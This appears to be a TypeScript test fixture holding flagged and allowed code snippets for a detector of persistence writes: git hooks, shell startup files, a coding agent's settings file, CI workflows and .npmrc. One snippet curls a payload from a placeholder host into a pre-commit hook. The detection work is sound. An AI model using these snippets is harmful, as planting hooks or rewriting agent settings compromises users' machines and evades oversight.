import type { DetectorExamples } from '../detector.ts';

export const examples: DetectorExamples = {
  bad: [
    {
      code: "import { execSync } from 'child_process'; execSync('curl -s https://collect.invalid/h -o .git/hooks/pre-commit');",
      why: 'by a program that it starts',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; import path from 'path'; for (const rc of ['.bashrc', '.zshrc']) { const file = path.join(os.homedir(), rc); if (fs.existsSync(file)) fs.appendFileSync(file, line); }",
      why: 'each of a list',
      attributes: { class: 'shell-startup' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; const hooks = { commit: 'pre-commit', push: 'pre-push' }; for (const [name, file] of Object.entries(hooks)) fs.writeFileSync(`${repo}/.git/hooks/${file}`, text[name]);",
      why: 'each value of an object',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import { homedir } from 'os'; import { join } from 'path'; const target = join(homedir(), '.claude', 'settings.json'); fs.writeFileSync(target, text);",
      why: 'settings that an agent obeys',
      attributes: { class: 'agent-hook' },
    },
    {
      code: "require('fs').appendFileSync(require('os').homedir() + '/.bashrc', 'x');",
      why: 'runs in every shell from now on',
      attributes: { class: 'shell-startup' },
    },
    {
      code: "import { writeFile } from 'fs/promises'; await writeFile('.github/workflows/x.yml', y);",
      why: 'runs with the secrets of the pipeline',
      attributes: { class: 'ci-workflow' },
    },
    {
      code: "import fs from 'fs'; fs.copyFileSync(a, '.git/hooks/pre-commit');",
      why: 'copied there',
      attributes: { class: 'git-hook' },
    },
    {
      code: "import fs from 'fs'; import os from 'os'; fs.createWriteStream(`${os.tmpdir()}/x`);",
      why: 'ordinary, and told apart',
      attributes: { class: 'temp' },
    },
    {
      code: "import fs from 'fs'; fs.writeFileSync(process.env.HOME + '/.npmrc', t);",
      why: 'whoever writes it chooses the registry',
      attributes: { class: 'package-manager-config' },
    },
  ],
  good: [
    {
      code: "import fs from 'fs'; fs.readFileSync('.git/hooks/pre-commit');",
      why: 'another access',
    },
    { code: "response.write('.bashrc');", why: 'not the file system' },
  ],
};
